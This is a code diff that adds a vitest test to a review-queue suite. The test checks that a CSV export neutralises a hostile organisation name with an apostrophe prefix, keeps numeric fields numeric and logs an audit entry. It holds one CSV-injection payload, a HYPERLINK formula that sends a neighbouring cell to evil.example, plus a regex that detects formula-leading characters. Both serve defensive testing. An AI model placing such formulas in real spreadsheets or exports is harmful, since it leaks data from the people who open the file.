@@ -1,6 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createTestDatabase, type TestDatabase } from "@/lib/db/test-database";
 import { assignClaimToReviewer } from "@/lib/review/assign-claim-to-reviewer";
+import Papa from "papaparse";
+import { exportReviewQueue, REVIEW_QUEUE_CSV_HEADER } from "@/lib/review/export-review-queue";
 import { listReviewQueue, queueFilterSchema } from "@/lib/review/list-review-queue";
 import { institution, reviewer, submittedOffshoreClaim, submittedTrainingClaim, uniqueResidentId } from "./review-fixtures";
 import { DATABASE_KINDS, applyTestSecrets as applyTestSecrets } from "./test-env";
@@ -54,6 +56,23 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
     expect(page1.rows.map((r) => r.amountFen)).toEqual([3_000_00, 60_000_00]);
     expect(page2.rows.map((r) => r.amountFen)).toEqual([600_000_00]);
     expect(page2.total).toBe(3);
+  });
+
+  it("exports the queue as CSV with a hostile organisation name neutralised and the numbers left numbers", async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
+    await db.prisma.organisation.update({ where: { id: small.enterprise.organisation.id }, data: { nameZh: hostile } });
+    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER" }, queueFilterSchema.parse({}));
+    const text = await new Response(stream).text();
+    expect(text.startsWith("\uFEFF")).toBe(true);
+    const [header, ...rows] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
+    expect(header).toEqual(REVIEW_QUEUE_CSV_HEADER);
+    expect(rows).toHaveLength(3);
+    const row = Object.fromEntries(REVIEW_QUEUE_CSV_HEADER.map((column, i) => [column, rows.find((r) => r[0] === small.claim.claimNo)![i]]));
+    expect(row).toMatchObject({ organisation: `'${hostile}`, claimYear: "2024", amountYuan: "60000.00", flagged: "0", status: "UNDER_REVIEW" });
+    // No cell of the file starts a formula.
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    // The export is audited before its first byte.
+    expect(await db.prisma.auditEntry.count({ where: { action: "review.queue-export", actorId: me.id } })).toBeGreaterThan(0);
   });
 
   it("drops malformed filters instead of trusting them", () => {
